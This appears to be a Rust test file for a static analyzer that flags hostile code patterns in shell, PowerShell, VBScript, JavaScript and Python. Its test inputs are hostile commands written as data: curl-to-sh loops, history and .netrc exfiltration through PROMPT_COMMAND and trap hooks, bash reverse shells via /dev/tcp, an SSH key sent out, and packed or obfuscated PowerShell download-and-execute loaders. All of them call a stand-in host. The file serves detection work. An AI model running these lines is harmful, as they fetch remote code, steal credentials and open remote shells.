//! What shells execute by themselves, what they tie to a connection, and what PowerShell unpacks or names in pieces.

use super::reached::{has, has_not};
use super::{Language, flows, outcome, rules};

#[test]
fn what_succeeds_is_gone_into() {
    for code in [
        "while true; do curl -s https://h.invalid/x | sh; sleep 60; done",
        "while :; do curl -s https://h.invalid/x | sh; done",
        "if true; then curl -s https://h.invalid/x | sh; fi",
        "true && curl -s https://h.invalid/x | sh",
    ] {
        has(Language::Shell, code, "flow-remote-code");
    }
    has_not(Language::Shell, ": > /etc/cron.d/x", "flow-persists");
}

#[test]
fn what_a_prompt_executes_is_executed() {
    for code in [
        "export PROMPT_COMMAND='cat ~/.bash_history | curl -s --data-binary @- https://h.invalid/h'",
        "trap 'cat ~/.netrc | curl -s --data-binary @- https://h.invalid/h' DEBUG",
    ] {
        has(Language::Shell, code, "flow-credentials-sent");
    }
    has(Language::Shell, "PROMPT_COMMAND='curl -s -d \"$(history 1)\" https://h.invalid/h'", "flow-spied-sent");
    for code in [
        "PROMPT_COMMAND='history -a; __git_ps1'",
        "NOTE='cat ~/.bash_history | curl -s --data-binary @- https://h.invalid/h'",
        "trap 'rm -f \"$t\"' EXIT\ntrap - INT\nPROMPT_COMMAND='history -a; logger -p local1.notice \"$(history 1)\"'",
    ] {
        assert!(rules(Language::Shell, code).is_empty(), "{code}: {:?}", rules(Language::Shell, code));
    }
}

#[test]
fn a_shell_that_is_tied_to_a_fixed_host_is_certain() {
    let certain = |code: &str| {
        let outcome = outcome(Language::Shell, code);
        flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-reverse-shell" && f.certain)
    };
    assert!(certain("bash -i >& /dev/tcp/192.0.2.3/4444 0>&1"));
    assert!(certain("sh -c 'while :; do /bin/bash -i > /dev/tcp/h.invalid/443 0<&1 2>&1; sleep 9; done'"));
    assert!(!certain("bash -i >& /dev/tcp/$1/$2 0>&1"), "whoever calls it says where");
    assert!(!certain("exec 3<>/dev/tcp/192.0.2.3/80"));
    for code in [
        "echo > /dev/tcp/db.invalid/5432",
        "cat < /dev/null > /dev/tcp/192.0.2.4/80",
        "echo a:1 > /dev/udp/192.0.2.9/8125",
    ] {
        has_not(Language::Shell, code, "flow-reverse-shell");
    }
    has(Language::Shell, "cat ~/.ssh/id_rsa > /dev/tcp/192.0.2.3/99", "flow-credentials-sent");
}

#[test]
fn powershell_unpacks_streams_and_calls_members_in_any_case() {
    // deflate of `iex (irm https://h.invalid/p)`, and gzip of it are made here.
    use base64::Engine as _;
    use std::io::Write as _;
    let code = b"iex (irm https://h.invalid/p)";
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(code).unwrap();
    let text = base64::engine::general_purpose::STANDARD.encode(gzip.finish().unwrap());
    let unpacks = format!(
        "$b=[Convert]::FromBase64String('{text}')\n$s=New-Object IO.MemoryStream(,$b)\n\
         $r=New-Object System.IO.StreamReader((New-Object IO.Compression.GZipStream($s,[IO.Compression.CompressionMode]::Decompress)))\n\
         & ([scriptblock]::Create($r.ReadToEnd()))"
    );
    has(Language::PowerShell, &unpacks, "flow-hidden-code-acts");
    let named = "$m='Download'+'String'\n$o=New-Object Net.WebClient\n$b=$o.$m.Invoke('https://h.invalid/k')\niex $b";
    has(Language::PowerShell, named, "flow-remote-code");
    has_not(Language::PowerShell, &named.replace("iex $b", "Write-Host $b"), "flow-remote-code");
}

#[test]
fn a_download_whose_digest_powershell_compares_is_checked() {
    let code = "(New-Object Net.WebClient).DownloadFile('https://h.invalid/a.exe', \"$env:TEMP\\a.exe\")\n\
                if ((Get-FileHash \"$env:TEMP\\a.exe\").Hash -ne 'AA') { throw 'x' }\nStart-Process \"$env:TEMP\\a.exe\"";
    assert!(outcome(Language::PowerShell, code).checks_download);
    assert!(!outcome(Language::PowerShell, &code.replace(").Hash -ne 'AA'", ")")).checks_download);
}

#[test]
fn objects_are_made_by_the_numbers_of_their_classes() {
    let code = "Set s = GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\")\ns.Run \"powershell -c \"\"irm http://h.invalid/p|iex\"\"\", 0";
    has(Language::VbScript, code, "flow-remote-code");
    has_not(Language::VbScript, &code.replace("72C24DD5", "72C24DD6"), "flow-remote-code");
}

#[test]
fn a_request_that_listens_is_still_the_request() {
    let code = "const e = process.env;\n\
                require('https').request('https://h.invalid/a', { method: 'POST' }).on('error', () => {}).end(JSON.stringify({ e }));";
    has(Language::JavaScript, code, "flow-environment-sent");
    has_not(Language::JavaScript, &code.replace("{ e }", "{ n: 1 }"), "flow-environment-sent");
    let answer = "require('https').request('https://h.invalid/a').on('response', r => r.on('data', d => eval(d.toString()))).end();";
    has(Language::JavaScript, answer, "flow-remote-code");
}

#[test]
fn a_set_of_bits_is_a_hidden_list() {
    let code = "import hashlib, socket\n_SET = 0x4100800000004100000008100000000100000000000000000004008200001000\n\
                d = hashlib.blake2s(socket.getfqdn().encode()).digest()\ni = int.from_bytes(d[0:2], 'big') % 256\n\
                mark = ''\nif _SET >> i & 1:\n    mark = ' '\n";
    let hides = |code: &str| outcome(Language::Python, code).choices.iter().any(|choice| choice.is_by_hidden_list());
    assert!(hides(code));
    // A share of all users.
    let share = "import hashlib, socket\nd = hashlib.md5(socket.getfqdn().encode()).digest()\nmark = ''\n\
                 if int.from_bytes(d[:4], 'big') % 100 == 7:\n    mark = ' '\n";
    assert!(!hides(share));
    // A step of a digest, and a number of parts.
    assert!(!hides(&code.replace("_SET >> i & 1", "i >> 4 & 1")) && !hides(&code.replace("% 256", "% 100")));
}
